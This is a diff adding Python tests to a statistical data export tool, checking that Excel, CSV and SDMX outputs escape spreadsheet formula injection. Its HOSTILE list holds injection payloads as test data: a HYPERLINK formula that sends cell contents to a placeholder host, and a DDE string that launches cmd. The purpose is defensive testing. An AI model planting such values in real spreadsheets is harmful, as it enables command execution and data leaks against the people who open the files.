@@ -164,3 +164,67 @@ def test_every_code_has_its_name():
     assert {n.get(XML_LANG): n.text for n in code.findall(f"{com}Name")} == {"zh": "制造业", "en": "Manufacturing"}
     town = root.find(f".//{st}Codelist[@id='CL_TOWNSHIP_CODE']/{st}Code[@id='660102001']")
     assert {n.get(XML_LANG): n.text for n in town.findall(f"{com}Name")} == {"zh": "东风街道", "en": "Dongfeng Subdistrict"}
+
+
+# Cells a spreadsheet would evaluate (OWASP: CSV injection), as a delivered code could carry them.
+HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"详情")', "+1+cmd|' /C calc'!A0", "@SUM(1,2)",
+           "-2+3", "\t=1+1", "\r=1+1"]
+
+
+def hostile_frame() -> pd.DataFrame:
+    n = len(HOSTILE)
+    return pd.DataFrame({
+        "vintage": [3] * n, "release_date": [date(2026, 10, 20)] * n, "period": ["2026-09"] * n,
+        "measure": ["vat_sales"] * n, "county_code": ["660101"] * n, "township_code": HOSTILE,
+        "industry_section": ["C"] * n, "contributors": [9] * n, "value": [-1500.5, *[1500.5] * (n - 1)],
+        "conf_status": ["F"] * n,
+    })
+
+
+def formula_cells(data: bytes) -> list[str]:
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    return [f"{sheet.title}!{cell.coordinate}" for sheet in book for row in sheet.iter_rows() for cell in row
+            if cell.data_type == "f"]
+
+
+def test_no_released_excel_file_holds_a_formula_and_its_text_is_kept():
+    data = export(hostile_frame(), RELEASE, "xlsx", SDMX).data
+    assert formula_cells(data) == []
+    sheet = openpyxl.load_workbook(io.BytesIO(data))["data"]
+    header = [c.value for c in sheet[1]]
+    column = header.index(next(h for h in header if h in ("township_code", "乡镇街道代码") or "乡镇" in str(h)))
+    shown = [row[column] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert all(any(h.strip() in str(v) for v in shown) for h in HOSTILE), shown
+
+
+def starts_a_formula(field: str) -> bool:
+    import re
+
+    return field.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"[+-]?\d+(\.\d*)?", field)
+
+
+def test_no_released_csv_field_starts_a_formula_and_numbers_stay_numbers():
+    import csv
+
+    for fmt, encoding in (("csv", "utf-8-sig"), ("sdmx", "utf-8")):
+        text = export(hostile_frame(), RELEASE, fmt, SDMX).data.decode(encoding)
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        live = [f for row in rows for f in row if starts_a_formula(f)]
+        assert live == [], (fmt, live)
+        fields = {f for row in rows for f in row}
+        assert {"'" + h for h in HOSTILE} <= fields, (fmt, sorted(fields))
+    csv_rows = list(csv.reader(io.StringIO(export(hostile_frame(), RELEASE, "csv", SDMX).data.decode("utf-8-sig"))))
+    assert any(f.startswith("-0.") for row in csv_rows for f in row), "a negative number was quoted as text"
+
+
+def test_the_apps_table_downloads_hold_no_formula():
+    import csv
+
+    from workbench.formatting import table_file
+
+    frame = pd.DataFrame({"township_code": HOSTILE, "value": [-1.5] * len(HOSTILE)})
+    assert formula_cells(table_file(frame, "zh", "xlsx", title="=cmd")) == []
+    text = table_file(frame, "en", "csv").decode("utf-8-sig")
+    fields = [f for row in csv.reader(io.StringIO(text, newline="")) for f in row]
+    assert not [f for f in fields if starts_a_formula(f)], fields
+    assert "-1.5" in fields
